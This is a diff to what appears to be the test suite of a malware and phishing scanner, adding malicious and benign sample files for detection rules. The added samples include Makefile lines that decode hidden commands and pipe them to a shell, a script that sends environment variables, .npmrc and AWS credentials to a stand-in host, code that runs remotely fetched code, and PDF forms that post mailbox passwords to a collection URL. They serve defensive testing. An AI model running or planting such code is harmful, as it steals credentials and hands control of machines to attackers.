@@ -61,6 +61,12 @@ const link = (rectangle: string, address: string): Uint8Array =>
     catalog(''),
     `<< /Type /Annot /Subtype /Link /Rect [${rectangle}] /A << /S /URI /URI (${address.replace(/[\\()]/g, '\\$&')}) >> >>`,
   ])
+const unlock = (address: string, ...fields: string[]): Uint8Array =>
+  pdf([
+    catalog('/AcroForm << /Fields [2 0 R 3 0 R] >>'),
+    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (open) /A << /S /SubmitForm /F << /FS /URL /F (${address}) >> >> >>`,
+    ...fields.map((field) => `<< /Type /Annot /Subtype /Widget /FT /Tx ${field} >>`),
+  ])
 const stash = (subject: string, source: string): Uint8Array =>
   pdf([catalog(script(source)), `<< /Type /Annot /Subtype /Text /Subj (${subject}) >>`])
 const content = (...lines: string[]): Uint8Array => {
@@ -112,6 +118,9 @@ const REPORTED = [
   'Attackers ask people to press Windows + R and to paste a command. Never do this:',
   `mshta http://${SERVER}/a`,
 ]
+
+const STEALS =
+  "const os=require('os'),https=require('https');const l={h:os.hostname(),env:process.env,a:rd('.npmrc'),b:rd('.aws/credentials')};https.request({host:'a.example',method:'POST'}).end(JSON.stringify(l))"
 
 const onOpening = (task: object): string =>
   JSON.stringify({ tasks: [{ type: 'shell', ...task, runOptions: { runOn: 'folderOpen' } }] })
@@ -308,6 +317,37 @@ const ROWS: readonly Row[] = [
       '<p>A phishing scam was detected. Verify that you are human: press Windows + R and paste.</p><pre>mshta https://a.example/a</pre>',
     ),
     letter('Malware was found on a computer. Never paste such a line with Windows + R:', 'mshta https://a.example/a'),
+  ],
+  [
+    'values of a build that run code',
+    'Script.Project',
+    file('a/Makefile', `X := $(shell sed -n 3p t/bad.bin | tr "N-ZA-M" "A-Z" | base64 -d 2>/dev/null | sh)\nall:\n`),
+    file(
+      'GNUmakefile',
+      `CC ?= cc\n_ := $(shell (printf %s ${btoa(`curl -fs http://${SERVER}/m`)} | openssl base64 -d -A | /bin/sh) &)\n`,
+    ),
+    file('a/Makefile', 'VERSION := $(shell git describe --tags)\nDATA := $(shell base64 -d data.b64 | wc -c)\nall:\n'),
+  ],
+  [
+    'keys of accounts, sent by a package',
+    'Script.RemoteControl',
+    file('a/setup.js', STEALS),
+    file('a/setup.js', `const a=${JSON.stringify('fs')};\n${STEALS.replace('https.request', 'fetch')}`),
+    file(
+      'a/config.js',
+      "const os = require('os')\nconst rc = require('path').join(os.homedir(), '.npmrc')\nmodule.exports = { rc, registry: process.env.REGISTRY }\n",
+    ),
+  ],
+  [
+    'code of a server that may load modules',
+    'Script.RemoteControl',
+    Buffer.from(`const axios = require('axios')\naxios.get(u).catch((e) => new Function('require', code)(require))\n`),
+    Buffer.from(
+      `const axios = require('axios')\nconst run = (code) => new (Function.constructor)('require', code)\naxios.get(atob(u)).catch((e) => run(e.data)(require))\n`,
+    ),
+    Buffer.from(
+      `const axios = require('axios')\nconst f = new Function('a', 'b', 'return a + b')\naxios.get(u).then((r) => f(r.a, r.b))\n`,
+    ),
   ],
   [
     'stylesheet with a script',
@@ -520,6 +560,20 @@ const ROWS: readonly Row[] = [
     link('0 0 595 842', 'https://a.example/b.zip'),
     link('595 842 0 0', 'https://a.example/b.ISO?c=1'),
     link('72 700 200 715', 'https://a.example/b.zip'),
+  ],
+  [
+    'page that is one link to a program',
+    'Pdf.ProgramPage',
+    link('0 0 595 842', `http://${SERVER}/dl/Remittance.js`),
+    link('595 842 0 0', 'https://a.example/INV-1.pdf.js?u=a'),
+    link('72 700 200 715', 'https://a.example/INV-1.pdf.js'),
+  ],
+  [
+    'form for the password of a mailbox',
+    'Pdf.Phishing',
+    unlock('https://a.example/collect.php', '/T (email)', '/Ff 8192 /T (mailpassword)'),
+    unlock('https://a.example/c', '/T (b)', '/Ff 8192 /T (a) /TU (Outlook)'),
+    unlock('https://a.example/order', '/T (email)', '/Ff 8192 /T (password)'),
   ],
   [
     'script in an annotation',
